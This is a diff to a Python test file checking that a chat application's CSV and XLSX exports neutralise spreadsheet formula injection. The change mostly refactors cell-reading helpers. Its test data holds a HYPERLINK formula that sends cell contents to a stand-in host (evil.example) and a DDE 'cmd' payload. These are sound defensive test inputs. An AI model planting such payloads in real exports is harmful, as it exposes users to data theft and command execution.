@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 from pathlib import Path
+from typing import Any
 
 import pytest
 from openpyxl import load_workbook
@@ -31,6 +32,17 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 def test_every_formula_start_is_neutralised_and_numbers_are_kept(start: str) -> None:
     assert safe_cell(f"{start}1+1") == f"'{start}1+1"
     assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell("plain") == "plain"
+
+
+def _csv_cells(directory: Path) -> list[str]:
+    return [
+        c for path in directory.rglob("*.csv") for row in csv.reader(path.open(encoding="utf-8")) for c in row
+    ]
+
+
+def _xlsx_cells(directory: Path) -> list[Any]:
+    book = load_workbook(next(directory.glob("*.xlsx")))
+    return [c for sheet in book for row in sheet.iter_rows() for c in row]
 
 
 def _dangerous(cells: list[object]) -> list[object]:
@@ -65,12 +77,9 @@ async def test_report_csv_and_xlsx(chat: Chat, db_url: str, tmp_path: Path) -> N
             db_url, "export", "report", "--cohort", "spoc", "--format", fmt, "--out", str(tmp_path)
         )
         assert result.exit_code == 0, result.output
-    cells = [
-        c for path in tmp_path.glob("*.csv") for row in csv.reader(path.open(encoding="utf-8")) for c in row
-    ]
+    cells = _csv_cells(tmp_path)
     assert f"'{EVIL}" in cells and _dangerous(cells) == []
-    book = load_workbook(next(tmp_path.glob("*.xlsx")))
-    xlsx_cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    xlsx_cells = _xlsx_cells(tmp_path)
     assert [c.coordinate for c in xlsx_cells if c.data_type == "f"] == []  # no live formula
     assert f"'{EVIL}" in [c.value for c in xlsx_cells]
 
@@ -81,6 +90,5 @@ async def test_survey_results_csv(chat: Chat, tmp_path: Path) -> None:
     sid = str(await send_now(chat, 'new "Feedback" "text:Anything else?"'))
     await chat.press("alice", "surveys.answer", sid, {"q1": "+1 cmd|' /C calc'!A0"})
     await chat.say("tina", f"survey spoc export {sid}")
-    path = next(tmp_path.rglob("*.csv"))
-    cells = [c for row in csv.reader(path.open(encoding="utf-8")) for c in row]
+    cells = _csv_cells(tmp_path)
     assert "'+1 cmd|' /C calc'!A0" in cells and _dangerous(cells) == []
